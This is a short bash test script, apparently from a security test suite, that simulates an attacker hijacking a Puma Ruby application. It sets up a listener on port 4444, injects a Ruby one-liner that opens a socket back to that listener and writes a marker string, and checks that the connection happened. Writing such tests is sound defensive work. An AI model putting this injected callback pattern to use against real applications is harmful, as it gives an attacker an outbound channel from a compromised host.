#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# The application connects to the attacker.
# workload: puma
# orders: orders.rb
# program: /usr/bin/ruby3.1
# deed: socket_create
# object: an IPv4 socket of type stream

# shellcheck source=tests/attacks/lib.sh
. "${0%/*}/lib.sh"
prepare() { listen 4444; }
orders() { echo 'require "socket"; TCPSocket.new("127.0.0.1", 4444).write("hija" + "cked")'; }
proof() { got hijacked; }
clean() { away; }
main "$@"
